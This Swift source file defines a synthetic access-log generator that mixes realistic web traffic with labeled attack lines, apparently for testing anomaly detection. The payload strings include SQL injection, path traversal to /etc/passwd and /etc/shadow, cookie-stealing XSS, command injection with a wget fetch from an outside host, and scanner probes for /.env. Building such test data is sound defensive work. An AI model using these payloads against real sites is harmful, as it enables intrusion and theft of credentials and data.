/// `access`: Apache/Nginx combined access logs — a client population with a few heavy users,
/// realistic paths, status mix, sizes, referrers and user agents — with SQL injection, path
/// traversal, XSS, command injection, scanner user agents, 5xx bursts, exfiltration-sized
/// responses and one IP hammering the site injected.
public struct AccessScenario: Scenario {
  /// `access`.
  public let name = "access"
  /// A one-line description.
  public let summary = "Apache/Nginx combined access log with injected attacks"

  /// Creates the scenario.
  public init() {}

  static let kinds: [AnomalyKind] = [
    AnomalyKind(name: "sql_injection"),
    AnomalyKind(name: "path_traversal"),
    AnomalyKind(name: "xss"),
    AnomalyKind(name: "command_injection"),
    AnomalyKind(name: "scanner_agent", minLength: 3, maxLength: 8),
    AnomalyKind(name: "server_error_burst", minLength: 5, maxLength: 15),
    AnomalyKind(name: "exfiltration"),
    AnomalyKind(name: "ip_hammering", minLength: 15, maxLength: 40),
  ]

  static let pages: [(String, Double)] = [
    ("/", 10), ("/index.html", 4), ("/products", 8), ("/products/", 12), ("/cart", 4),
    ("/checkout", 2), ("/login", 3), ("/api/v1/products?page=", 8), ("/api/v1/cart/items", 5),
    ("/search?q=", 6), ("/static/css/site.css", 10), ("/static/js/app.js", 10),
    ("/images/products/", 12), ("/favicon.ico", 3), ("/account/orders", 2),
  ]
  static let searchTerms = [
    "shoes", "red+dress", "laptop", "coffee+mug", "headphones", "gift+card",
  ]
  static let agents: [(String, Double)] = [
    (
      "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
      40
    ),
    (
      "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_2) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.2 Safari/605.1.15",
      20
    ),
    (
      "Mozilla/5.0 (iPhone; CPU iPhone OS 17_2 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.2 Mobile/15E148 Safari/604.1",
      20
    ),
    ("Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0", 10),
    ("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", 5),
    ("curl/8.4.0", 2),
  ]
  static let referrers: [(String, Double)] = [
    ("-", 40), ("https://shop.example.com/", 30), ("https://www.google.com/", 20),
    ("https://shop.example.com/products", 10),
  ]

  /// Writes the log and its line labels.
  public func generate(
    _ settings: GeneratorSettings, output: inout LineWriter, labels: inout LabelWriter?
  )
    throws(LineWriter.WriteError) -> GenerationSummary
  {
    let times = TimestampWriter()
    func client(_ random: inout SeededRandom) -> Int {
      // A few heavy clients and a long tail.
      random.nextUnit() < 0.3 ? random.nextIndex(20) : random.nextIndex(5000)
    }
    func writeAddress(_ id: Int, _ out: inout LineWriter) {
      out.append(10 + id / 65_536 % 200)
      out.append(byte: 0x2E)
      out.append(id / 256 % 256)
      out.append(byte: 0x2E)
      out.append(id % 256)
      out.append(".")
      out.append(1 + id % 250)
    }
    func writeLine(
      _ out: inout LineWriter, _ random: inout SeededRandom, _ time: Double, address: Int,
      method: String,
      path: (inout LineWriter, inout SeededRandom) -> Void, status: Int, size: Int, agent: String
    ) {
      writeAddress(address, &out)
      out.append(" - - [")
      times.write(time, .apache, to: &out)
      out.append("] \"")
      out.append(method)
      out.append(byte: 0x20)
      path(&out, &random)
      out.append(" HTTP/1.1\" ")
      out.append(status)
      out.append(byte: 0x20)
      if size > 0 { out.append(size) } else { out.append("-") }
      out.append(" \"")
      out.append(random.pick(Self.referrers))
      out.append("\" \"")
      out.append(agent)
      out.append(byte: 0x22)
    }
    func normalPath(_ out: inout LineWriter, _ random: inout SeededRandom) {
      let page = random.pick(Self.pages)
      out.append(page)
      if page.hasSuffix("=") {
        if page.hasPrefix("/search") {
          out.append(random.pick(Self.searchTerms))
        } else {
          out.append(1 + random.nextIndex(40))
        }
      } else if page.hasSuffix("/") && page != "/" {
        out.append(1000 + random.nextIndex(9000))
        if page.hasPrefix("/images") { out.append(".jpg") }
      }
    }
    let runner = LineScenarioRunner(settings: settings, kinds: Self.kinds, eventsPerSecond: 5)
    return try runner.run(
      output: &output, labels: &labels,
      normal: { out, random, time in
        let status = random.pick([(200, 86.0), (304, 6), (301, 2), (404, 4), (400, 1), (500, 0.2)])
        let size = status == 304 ? 0 : Int(random.logNormal(median: 8_000, sigma: 1.0))
        let method = random.nextUnit() < 0.9 ? "GET" : "POST"
        writeLine(
          &out, &random, time, address: client(&random), method: method, path: normalPath,
          status: status, size: size, agent: random.pick(Self.agents))
      },
      anomaly: { out, random, time, kind, step, seed in
        let attacker = 100_000 + seed % 50_000
        let browser = Self.agents[0].0
        switch kind {
        case "sql_injection":
          writeLine(
            &out, &random, time, address: attacker, method: "GET",
            path: { out, random in
              out.append(
                random.pick([
                  "/products?id=1%27%20OR%20%271%27=%271",
                  "/api/v1/products?page=1%20UNION%20SELECT%20username,password%20FROM%20users--",
                  "/login?user=admin%27--", "/search?q=%27%20or%201=1--",
                ]))
            }, status: 200, size: 512 + random.nextIndex(4000), agent: browser)
        case "path_traversal":
          writeLine(
            &out, &random, time, address: attacker, method: "GET",
            path: { out, random in
              out.append(
                random.pick([
                  "/../../../../etc/passwd", "/static/..%2f..%2f..%2fetc/shadow",
                  "/download?file=../../../../etc/passwd",
                ]))
            }, status: random.pick([400, 403, 404]), size: 300, agent: browser)
        case "xss":
          writeLine(
            &out, &random, time, address: attacker, method: "GET",
            path: { out, random in
              out.append(
                random.pick([
                  "/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
                  "/search?q=<script>alert(1)</script>",
                  "/products?name=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E",
                ]))
            }, status: 200, size: 4000 + random.nextIndex(2000), agent: browser)
        case "command_injection":
          writeLine(
            &out, &random, time, address: attacker, method: "GET",
            path: { out, random in
              out.append(
                random.pick([
                  "/cgi-bin/ping?host=127.0.0.1;cat%20/etc/passwd",
                  "/api/v1/export?name=report$(wget%20http://203.0.113.9/x.sh)",
                  "/tools/lookup?domain=example.com|id",
                ]))
            }, status: random.pick([200, 500]), size: 700, agent: browser)
        case "scanner_agent":
          writeLine(
            &out, &random, time, address: attacker, method: "GET",
            path: { out, random in
              out.append(
                random.pick([
                  "/wp-login.php", "/phpmyadmin/index.php", "/.env", "/.git/config",
                  "/admin/config.php", "/server-status",
                ]))
            }, status: 404, size: 300,
            agent: [
              "sqlmap/1.7.2#stable (https://sqlmap.org)",
              "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:Port Check)",
              "Nmap Scripting Engine", "masscan/1.3",
            ][seed % 4])
        case "server_error_burst":
          writeLine(
            &out, &random, time, address: client(&random), method: "GET", path: normalPath,
            status: [500, 502, 503][seed % 3], size: 0, agent: random.pick(Self.agents))
        case "exfiltration":
          writeLine(
            &out, &random, time, address: attacker, method: "GET",
            path: { out, random in
              out.append(
                random.pick([
                  "/api/v1/export/customers.csv", "/backup/db-dump.sql.gz",
                  "/api/v1/users?limit=1000000",
                ]))
            }, status: 200, size: 400_000_000 + random.nextIndex(1_600_000_000),
            agent: "python-requests/2.31.0")
        default:
          writeLine(
            &out, &random, time, address: attacker, method: step % 2 == 0 ? "POST" : "GET",
            path: { out, _ in out.append(step % 2 == 0 ? "/login" : "/account/orders") },
            status: step % 2 == 0 ? 401 : 302, size: 180, agent: browser)
        }
      })
  }
}
